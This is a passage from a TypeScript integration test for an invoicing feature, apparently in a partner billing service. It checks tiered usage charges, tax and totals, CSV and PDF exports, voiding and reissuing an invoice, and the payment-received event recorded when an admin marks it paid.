    const cookie = await sessionCookie(user.id);
    const listed = await list({ cookie }, "?period=2026-03");
    expect(listed.status, listed.text).toBe(200);
    expect(listed.body.data).toHaveLength(1);
    const inv = listed.body.data[0];
    // flat 10,000 + tier 1: 10,000 calls × 50/1000 = 500 + tier 2: 14,000 × 25/1000 = 350 + 100 flat = 450.
    expect(inv.lines.map((l: { kind: string; amountCents: number }) => [l.kind, l.amountCents])).toEqual([
      ["flat_fee", 10_000],
      ["usage", 500],
      ["usage", 450],
    ]);
    expect(inv).toMatchObject({ status: "open", period: "2026-03", subtotalCents: 10_950, taxCents: 903, totalCents: 11_853 });
    expect(inv.number).toMatch(/^PRT-202603-\d{6}$/);
    expect(inv.lines[1].metadata).toMatchObject({ tier: 1, fromCall: 1_001, toCall: 11_000 });
    expect((await get(inv.id, { cookie })).body).toEqual(inv);

    const csv = parseCsv((await get(inv.id, { cookie }, "?format=csv")).text);
    const lineRows = csv.slice(1).filter((r) => !["subtotal", "tax", "total"].includes(r[2]));
    expect(lineRows.reduce((s, r) => s + Number(r[6]), 0)).toBe(inv.subtotalCents);
    expect(Number(csv.find((r) => r[2] === "total")![6])).toBe(11_853);
    const pdf = await get(inv.id, { cookie }, "?format=pdf");
    expect(pdf.text.startsWith("%PDF-")).toBe(true);

    const adminCreds = await adminCookie();
    const voided = await voidIt(inv.id, adminCreds, { reason: "Wrong plan" });
    expect(voided.body).toMatchObject({ status: "void", number: inv.number });
    expect(await issueInvoices(db(), { period: "2026-03", partnerIds: [partner.id], now: new Date() })).toMatchObject({ created: 1 });
    const again = await list({ cookie }, "?period=2026-03");
    expect(again.body.data).toHaveLength(2);
    const reissued = again.body.data.find((i: { id: string }) => i.id !== inv.id);
    expect(reissued.status).toBe("open");
    expect(reissued.number).not.toBe(inv.number);
    expect(reissued.totalCents).toBe(11_853);
    expect(again.body.data.find((i: { id: string }) => i.id === inv.id)).toMatchObject({ status: "void", number: inv.number });

    const paid = await markPaid(reissued.id, adminCreds, { reference: "ACH 778" });
    expect(paid.status, paid.text).toBe(200);
    const [event] = await db()
      .select()
      .from(events)
      .where(and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${reissued.id}`));
    expect(event.data).toEqual({ invoiceId: reissued.id, partnerId: partner.id, amountCents: 11_853, currency: "USD", receivedAt: paid.body.paidAt });
  });
});
